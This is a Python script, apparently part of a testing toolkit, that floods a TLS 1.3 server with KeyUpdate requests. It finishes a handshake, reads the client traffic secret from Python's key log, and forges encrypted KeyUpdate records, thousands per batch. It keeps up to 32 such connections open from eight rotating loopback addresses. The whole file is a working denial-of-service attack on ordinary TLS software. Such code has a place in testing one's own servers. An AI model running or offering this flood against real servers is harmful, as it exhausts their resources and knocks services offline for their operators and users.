"""
Requests of TLS 1.3 for new keys (RFC 8446, 4.6.3), without end; each is answered, and nobody reads that.

OpenSSL's own client would be asked for each by itself. So the records are made here, by the secret that
Python's ``ssl`` writes down for whoever analyses what goes by.
"""

from __future__ import annotations

import contextlib
import hmac
import socket
import ssl
import tempfile
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from misc.attack.target import Target, again_and_again, context, from_command_line, refused_or_cut

CONNECTIONS_EACH = 4
UPDATES = 5000
"""At a time; each is 27 bytes, here and back."""

_UPDATE = b"\x18\0\0\1\1\x16"
"""The message, which asks for the same of the other side, and the type of its record."""


class KeyUpdates:
    """
    Of one connection, on which nothing else is sent.

    Args:
        secret: of what the client sends, when the handshake is over.
        algorithm: of its cipher's hashes.
        key_bytes: of its cipher, which is AES-GCM.
    """

    def __init__(self, secret: bytes, algorithm: str, key_bytes: int) -> None:
        self._secret = secret
        self._algorithm = algorithm
        self._key_bytes = key_bytes

    def record(self) -> bytes:
        """Return the next request, encrypted; with it the key is another one."""
        key, nonce = self._derive(b"key", self._key_bytes), self._derive(b"iv", 12)
        head = b"\x17\3\3" + (len(_UPDATE) + 16).to_bytes(2, "big")
        self._secret = self._derive(b"traffic upd", len(self._secret))
        return head + AESGCM(key).encrypt(nonce, _UPDATE, head)

    def _derive(self, label: bytes, length: int) -> bytes:
        """HKDF-Expand-Label, of no more than one hash (7.1)."""
        label = b"tls13 " + label
        text = length.to_bytes(2, "big") + bytes([len(label)]) + label + b"\0\1"
        return hmac.digest(self._secret, text, self._algorithm)[:length]


def shake_hands(connection: socket.socket) -> KeyUpdates:
    """Make TLS of a connection, as its client."""
    with tempfile.TemporaryDirectory() as directory:
        keys = Path(directory, "keys")
        tls_context = context()
        tls_context.minimum_version = ssl.TLSVersion.TLSv1_3
        tls_context.keylog_filename = str(keys)
        received, written = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = tls_context.wrap_bio(received, written)
        over = False
        while not over:
            try:
                tls.do_handshake()
                over = True
            except ssl.SSLWantReadError:
                pass
            connection.sendall(written.read())
            if not over:
                if not (data := connection.recv(65536)):
                    raise ConnectionError("it was cut")
                received.write(data)
        named = dict(line.split(" ", 1) for line in keys.read_text().splitlines())
    secret = bytes.fromhex(named["CLIENT_TRAFFIC_SECRET_0"].split(" ")[1])
    name, _, bits = tls.cipher() or ("", "", 0)
    return KeyUpdates(secret, name.rpartition("_")[2].lower(), bits // 8)


class _Flood:
    """One connection whose client wants new keys."""

    def __init__(self, connection: socket.socket) -> None:
        self._connection = connection
        self._updates = shake_hands(connection)
        self._left = b""
        connection.setblocking(False)

    def ask(self) -> bool:
        """Ask for new keys as often as the server hears it; returns whether it still does."""
        if not self._left:
            self._left = b"".join(self._updates.record() for _ in range(UPDATES))
        with contextlib.suppress(BlockingIOError):
            try:
                self._left = self._left[self._connection.send(self._left) :]
            except (ConnectionError, TimeoutError):
                self._connection.close()
                return False
        return True


def attack(target: Target) -> None:
    """Keep a few connections from each of eight addresses that do nothing else."""
    open_ones: dict[int, _Flood] = {}
    for turn in again_and_again(target):
        number = turn % (8 * CONNECTIONS_EACH)
        if number not in open_ones:
            with refused_or_cut():
                open_ones[number] = _Flood(target.connect(f"127.0.0.{2 + number % 8}"))
        elif not open_ones[number].ask():
            del open_ones[number]


if __name__ == "__main__":
    attack(from_command_line(__doc__))
